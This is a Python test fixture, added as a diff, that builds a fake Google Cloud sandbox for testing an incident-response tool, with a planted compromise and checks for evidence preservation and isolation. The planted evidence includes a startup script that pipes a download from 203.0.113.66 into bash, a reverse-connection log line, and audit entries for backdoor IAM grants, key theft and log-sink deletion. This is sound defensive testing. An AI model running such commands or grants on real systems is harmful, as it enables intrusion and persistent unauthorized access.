@@ -1,0 +1,430 @@
+"""The Google Cloud sandbox: the fake Compute/Logging server, a planted incident and state checks."""
+
+from __future__ import annotations
+
+import hashlib
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+from cloudir.provider import Provider, TargetKind, TargetQuery
+from moto_fixtures.gcp_server import FakeGcp, FakeGcpServer, link
+from moto_fixtures.sandbox import PlantedIncident
+from providers.gcp import GcpProvider, create_provider
+from providers.gcp.provider import CASE_LABEL, label_value
+
+PROJECT = "victim-prod"
+FORENSIC_PROJECT = "forensics-vault"
+ZONE = "us-central1-a"
+OTHER_ZONE = "europe-west1-b"
+INSTANCE = "web-frontend-7x2k"
+MIG = "web-frontend-mig"
+NETWORK = link(PROJECT, "global", "networks", "default")
+SERVICE_ACCOUNT = f"web-frontend@{PROJECT}.iam.gserviceaccount.com"
+ATTACKER = SERVICE_ACCOUNT  # the attacker uses the instance's stolen service-account token
+ADMIN = "ops-admin@victim.example"
+RESPONDER = f"cloudir-responder@{FORENSIC_PROJECT}.iam.gserviceaccount.com"
+INTERNAL_IP = "10.128.0.17"
+EXTERNAL_IP = "34.118.42.7"
+WINDOW_START = "2026-11-20T08:00:00Z"
+WINDOW_END = "2026-11-20T12:00:00Z"
+STARTUP_SCRIPT = "#!/bin/bash\ncurl -s http://203.0.113.66/x.sh | bash\n"
+ATTACKER_IP = "203.0.113.66"
+# Generic capability names (shared by every sandbox) to the Compute / Logging operation they exercise.
+OPERATION_ALIASES = {
+    "preserve": "instances.setDeletionProtection",
+    "snapshot": "disks.createSnapshot",
+    "copy": "images.insert",
+    "isolate": "firewalls.insert",
+    "pull_logs": "entries.list",
+}
+AUDIT_ACTIVITY = "cloudaudit.googleapis.com%2Factivity"
+AUDIT_DATA = "cloudaudit.googleapis.com%2Fdata_access"
+AUDIT_SYSTEM = "cloudaudit.googleapis.com%2Fsystem_event"
+
+
+class GcpSandbox:
+    """A running fake Google Cloud (use as a context manager)."""
+
+    cloud = "gcp"
+
+    def __init__(self, *, log_page_size: int = 50) -> None:
+        self.server: FakeGcpServer | None = None
+        self.log_page_size = log_page_size
+
+    @property
+    def fake(self) -> FakeGcp:
+        """The fake's state and controls."""
+        assert self.server is not None, "use the sandbox as a context manager"
+        return self.server.fake
+
+    def __enter__(self) -> GcpSandbox:
+        self.server = FakeGcpServer()
+        self.server.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        if self.server is not None:
+            self.server.stop()
+            self.server = None
+
+    def provider(self) -> Provider:
+        """A provider pointed at the fake (anonymous credentials, quick log backoff)."""
+        return self.gcp_provider()
+
+    def gcp_provider(self, **overrides: Any) -> GcpProvider:
+        """The concrete provider, with optional config overrides."""
+        assert self.server is not None
+        config: dict[str, Any] = {
+            "project": PROJECT,
+            "api_endpoint": self.server.endpoint,
+            "anonymous": True,
+            "forensic_project": FORENSIC_PROJECT,
+            "principal": RESPONDER,
+            "log_page_size": self.log_page_size,
+            "log_backoff": 0.01,
+            "log_max_retries": 3,
+        }
+        return create_provider(**{**config, **overrides})
+
+    # -- the incident ----------------------------------------------------------------------------
+    def plant_incident(self) -> PlantedIncident:
+        """An instance in a MIG (boot + data disk, external IP, service account) and the attacker's audit trail."""
+        fake = self.fake
+        self._plant_compute(fake)
+        fake.log_entries.extend(_baseline_entries() + _attacker_entries())
+        return PlantedIncident(
+            cloud=self.cloud,
+            target=TargetQuery(TargetKind.INSTANCE, INSTANCE, ZONE),
+            attacker_principal=ATTACKER,
+            window_start=WINDOW_START,
+            window_end=WINDOW_END,
+            forensic_account=FORENSIC_PROJECT,
+            alternate_targets=[
+                TargetQuery(TargetKind.INSTANCE, INTERNAL_IP),
+                TargetQuery(TargetKind.INSTANCE, EXTERNAL_IP),
+                TargetQuery(TargetKind.INSTANCE, INSTANCE),
+            ],
+            extra={
+                "project": PROJECT,
+                "zone": ZONE,
+                "instance": INSTANCE,
+                "managed_instance_group": MIG,
+                "disks": [f"{INSTANCE}", f"{INSTANCE}-data"],
+                "attacker_methods": [entry["protoPayload"]["methodName"] for entry in _attacker_entries()],
+            },
+        )
+
+    @staticmethod
+    def _plant_compute(fake: FakeGcp) -> None:
+        project = fake.project(PROJECT)
+        fake.project(FORENSIC_PROJECT)
+        instance_link = link(PROJECT, "zones", ZONE, "instances", INSTANCE)
+        disks = []
+        for index, (disk, size) in enumerate(((INSTANCE, "20"), (f"{INSTANCE}-data", "200"))):
+            disk_link = link(PROJECT, "zones", ZONE, "disks", disk)
+            project.disks.setdefault(ZONE, {})[disk] = {
+                "kind": "compute#disk",
+                "id": fake.new_id(),
+                "name": disk,
+                "sizeGb": size,
+                "status": "READY",
+                "zone": link(PROJECT, "zones", ZONE),
+                "type": link(PROJECT, "zones", ZONE, "diskTypes", "pd-balanced"),
+                "users": [instance_link],
+                "selfLink": disk_link,
+            }
+            disks.append(
+                {
+                    "kind": "compute#attachedDisk",
+                    "source": disk_link,
+                    "deviceName": disk,
+                    "index": index,
+                    "boot": index == 0,
+                    "type": "PERSISTENT",
+                    "mode": "READ_WRITE",
+                    "autoDelete": index == 0,
+                }
+            )
+        template = link(PROJECT, "global", "instanceTemplates", "web-frontend-v3")
+        igm_link = link(PROJECT, "zones", ZONE, "instanceGroupManagers", MIG)
+        project.instances.setdefault(ZONE, {})[INSTANCE] = {
+            "kind": "compute#instance",
+            "id": fake.new_id(),
+            "name": INSTANCE,
+            "zone": link(PROJECT, "zones", ZONE),
+            "machineType": link(PROJECT, "zones", ZONE, "machineTypes", "e2-medium"),
+            "status": "RUNNING",
+            "deletionProtection": False,
+            "tags": {"items": ["http-server"], "fingerprint": "tags-v1"},
+            "labels": {"app": "web-frontend", "env": "prod"},
+            "metadata": {
+                "fingerprint": "meta-v1",
+                "items": [
+                    {"key": "created-by", "value": f"projects/123456789012/zones/{ZONE}/instanceGroupManagers/{MIG}"},
+                    {"key": "instance-template", "value": template},
+                    {"key": "startup-script", "value": STARTUP_SCRIPT},
+                ],
+            },
+            "disks": disks,
+            "networkInterfaces": [
+                {
+                    "name": "nic0",
+                    "network": NETWORK,
+                    "networkIP": INTERNAL_IP,
+                    "subnetwork": link(PROJECT, "regions", "us-central1", "subnetworks", "default"),
+                    "accessConfigs": [
+                        {
+                            "kind": "compute#accessConfig",
+                            "type": "ONE_TO_ONE_NAT",
+                            "name": "External NAT",
+                            "natIP": EXTERNAL_IP,
+                        }
+                    ],
+                }
+            ],
+            "serviceAccounts": [
+                {"email": SERVICE_ACCOUNT, "scopes": ["https://www.googleapis.com/auth/cloud-platform"]}
+            ],
+            "selfLink": instance_link,
+            "_serial": "Booting...\n[  OK  ] Started startup-script.\nconnecting to 203.0.113.66:4444\n",
+        }
+        project.instances.setdefault(OTHER_ZONE, {})["batch-worker-1"] = {
+            "kind": "compute#instance",
+            "id": fake.new_id(),
+            "name": "batch-worker-1",
+            "status": "RUNNING",
+            "zone": link(PROJECT, "zones", OTHER_ZONE),
+            "deletionProtection": False,
+            "tags": {"items": [], "fingerprint": "tags-v0"},
+            "labels": {},
+            "metadata": {"items": []},
+            "disks": [],
+            "networkInterfaces": [{"name": "nic0", "network": NETWORK, "networkIP": "10.132.0.4", "accessConfigs": []}],
+            "serviceAccounts": [],
+            "selfLink": link(PROJECT, "zones", OTHER_ZONE, "instances", "batch-worker-1"),
+        }
+        project.igms.setdefault(ZONE, {})[MIG] = {
+            "kind": "compute#instanceGroupManager",
+            "id": fake.new_id(),
+            "name": MIG,
+            "zone": link(PROJECT, "zones", ZONE),
+            "baseInstanceName": "web-frontend",
+            "instanceTemplate": template,
+            "targetSize": 3,
+            "selfLink": igm_link,
+            "_managed": [
+                instance_link,
+                link(PROJECT, "zones", ZONE, "instances", "web-frontend-9q4m"),
+                link(PROJECT, "zones", ZONE, "instances", "web-frontend-b81c"),
+            ],
+        }
+        for name, rule in {
+            "default-allow-internal": {"sourceRanges": ["10.128.0.0/9"], "allowed": [{"IPProtocol": "all"}]},
+            "allow-http": {
+                "sourceRanges": ["0.0.0.0/0"],
+                "targetTags": ["http-server"],
+                "allowed": [{"IPProtocol": "tcp", "ports": ["80"]}],
+            },
+            "allow-db-admin": {
+                "sourceRanges": ["10.0.0.0/8"],
+                "targetTags": ["db"],
+                "allowed": [{"IPProtocol": "tcp", "ports": ["5432"]}],
+            },
+            "allow-all-debug": {"sourceRanges": ["0.0.0.0/0"], "allowed": [{"IPProtocol": "all"}]},
+        }.items():
+            project.firewalls[name] = {
+                "kind": "compute#firewall",
+                "id": fake.new_id(),
+                "name": name,
+                "network": NETWORK,
+                "direction": "INGRESS",
+                "priority": 1000,
+                "disabled": False,
+                "selfLink": link(PROJECT, "global", "firewalls", name),
+                **rule,
+            }
+
+    # -- state checks ----------------------------------------------------------------------------
+    def state(self) -> dict[str, Any]:
+        """Every resource in every project (operations excluded)."""
+        return self.fake.state()
+
+    def snapshots_for_case(self, case_id: str) -> list[str]:
+        """Snapshots and forensic image copies labelled with the case id."""
+        value = label_value(case_id)
+        with self.fake.lock:
+            return sorted(
+                resource["selfLink"]
+                for project in self.fake.projects.values()
+                for resource in (*project.snapshots.values(), *project.images.values())
+                if resource.get("labels", {}).get(CASE_LABEL) == value
+            )
+
+    def is_preserved(self, incident: PlantedIncident) -> bool:
+        """Deletion protection is on and no managed instance group still owns the instance."""
+        with self.fake.lock:
+            project = self.fake.project(PROJECT)
+            instance = project.instances[ZONE][INSTANCE]
+            managed = project.igms[ZONE][MIG]["_managed"]
+            return bool(instance["deletionProtection"]) and instance["selfLink"] not in managed
+
+    def is_isolated(self, incident: PlantedIncident) -> bool:
+        """The instance carries a tag that cloudir deny-all ingress and egress rules target."""
+        with self.fake.lock:
+            project = self.fake.project(PROJECT)
+            tags = set(project.instances[ZONE][INSTANCE]["tags"].get("items", []))
+            denied = {
+                rule["direction"]
+                for rule in project.firewalls.values()
+                if str(rule.get("description", "")).startswith("cloudir")
+                and set(rule.get("targetTags", [])) & tags
+                and any(d.get("IPProtocol") == "all" for d in rule.get("denied", []))
+                and "0.0.0.0/0" in rule.get("sourceRanges", []) + rule.get("destinationRanges", [])
+            }
+            return denied == {"INGRESS", "EGRESS"}
+
+    @contextmanager
+    def fail_next(self, operation: str, error_code: str = "InternalError") -> Iterator[None]:
+        """The next call of ``operation`` (``disks.createSnapshot`` or a capability alias) fails with ``error_code``."""
+        name = OPERATION_ALIASES.get(operation, operation)
+        self.fake.inject(name, error_code)
+        try:
+            yield
+        finally:
+            self.fake.clear_injections(name)
+
+    def throttle(self, operation: str, times: int, *, after: int = 0) -> None:
+        """Answer ``times`` calls of ``operation`` with 429 RESOURCE_EXHAUSTED, after ``after`` successful ones."""
+        self.fake.inject(OPERATION_ALIASES.get(operation, operation), "RESOURCE_EXHAUSTED", times, after=after)
+
+
+def _entry(
+    minute: int,
+    principal: str,
+    service: str,
+    method: str,
+    resource: str,
+    *,
+    log: str = AUDIT_ACTIVITY,
+    caller_ip: str = "198.51.100.10",
+    request: dict[str, Any] | None = None,
+    resource_type: str = "project",
+) -> dict[str, Any]:
+    """One Cloud Audit Log entry as entries.list returns it."""
+    hour, minute = divmod(minute, 60)
+    stamp = f"2026-11-20T{hour:02d}:{minute:02d}:00.000000Z"
+    return {
+        "insertId": hashlib.sha256(f"{stamp}|{method}|{resource}".encode()).hexdigest()[:16],
+        "logName": f"projects/{PROJECT}/logs/{log}",
+        "resource": {"type": resource_type, "labels": {"project_id": PROJECT}},
+        "timestamp": stamp,
+        "receiveTimestamp": stamp,
+        "severity": "NOTICE",
+        "protoPayload": {
+            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
+            "authenticationInfo": {"principalEmail": principal},
+            "requestMetadata": {"callerIp": caller_ip, "callerSuppliedUserAgent": "google-cloud-sdk gcloud/497.0.0"},
+            "serviceName": service,
+            "methodName": method,
+            "resourceName": resource,
+            "request": request or {},
+            "status": {},
+        },
+    }
+
+
+def _baseline_entries() -> list[dict[str, Any]]:
+    """Benign background: an admin listing and reading things, the service account writing logs, system events."""
+    entries = []
+    for index in range(0, 240, 2):
+        minute = 6 * 60 + index  # 06:00 .. 09:58, partly before the window
+        if index % 6 == 0:
+            entries.append(
+                _entry(
+                    minute,
+                    ADMIN,
+                    "compute.googleapis.com",
+                    "v1.compute.instances.list",
+                    f"projects/{PROJECT}/zones/{ZONE}/instances",
+                    log=AUDIT_DATA,
+                )
+            )
+        elif index % 6 == 2:
+            entries.append(
+                _entry(
+                    minute,
+                    SERVICE_ACCOUNT,
+                    "storage.googleapis.com",
+                    "storage.objects.get",
+                    f"projects/_/buckets/{PROJECT}-assets/objects/index.html",
+                    log=AUDIT_DATA,
+                    caller_ip=INTERNAL_IP,
+                )
+            )
+        else:
+            entries.append(
+                _entry(
+                    minute,
+                    "system",
+                    "compute.googleapis.com",
+                    "compute.instances.automaticRestart",
+                    f"projects/{PROJECT}/zones/{ZONE}/instances/web-frontend-9q4m",
+                    log=AUDIT_SYSTEM,
+                    resource_type="gce_instance",
+                )
+            )
+    return entries
+
+
+def _attacker_entries() -> list[dict[str, Any]]:
+    """The attacker, acting as the instance's service account from an outside IP."""
+
+    def attack(minute: int, service: str, method: str, resource: str, request: dict[str, Any]) -> dict[str, Any]:
+        return _entry(minute, ATTACKER, service, method, resource, caller_ip=ATTACKER_IP, request=request)
+
+    snapshot = f"projects/{PROJECT}/global/snapshots/db-backup-0412"
+    return [
+        attack(
+            10 * 60 + 5,
+            "cloudresourcemanager.googleapis.com",
+            "SetIamPolicy",
+            f"projects/{PROJECT}",
+            {"policy": {"bindings": [{"role": "roles/owner", "members": ["user:backdoor.ops@gmail.com"]}]}},
+        ),
+        attack(
+            10 * 60 + 9,
+            "iam.googleapis.com",
+            "google.iam.admin.v1.CreateServiceAccountKey",
+            f"projects/{PROJECT}/serviceAccounts/{SERVICE_ACCOUNT}",
+            {"private_key_type": 2},
+        ),
+        attack(
+            10 * 60 + 14,
+            "logging.googleapis.com",
+            "google.logging.v2.ConfigServiceV2.DeleteSink",
+            f"projects/{PROJECT}/sinks/org-audit-export",
+            {},
+        ),
+        attack(
+            10 * 60 + 20,
+            "compute.googleapis.com",
+            "v1.compute.firewalls.insert",
+            f"projects/{PROJECT}/global/firewalls/allow-all-debug",
+            {"sourceRanges": ["0.0.0.0/0"], "alloweds": [{"IPProtocol": "all"}]},
+        ),
+        attack(
+            10 * 60 + 31,
+            "compute.googleapis.com",
+            "v1.compute.snapshots.setIamPolicy",
+            snapshot,
+            {"policy": {"bindings": [{"role": "roles/compute.storageAdmin", "members": ["allUsers"]}]}},
+        ),
+        attack(
+            10 * 60 + 33,
+            "compute.googleapis.com",
+            "v1.compute.images.setIamPolicy",
+            f"projects/{PROJECT}/global/images/web-golden-v3",
+            {"policy": {"bindings": [{"role": "roles/compute.imageUser", "members": ["allUsers"]}]}},
+        ),
+    ]
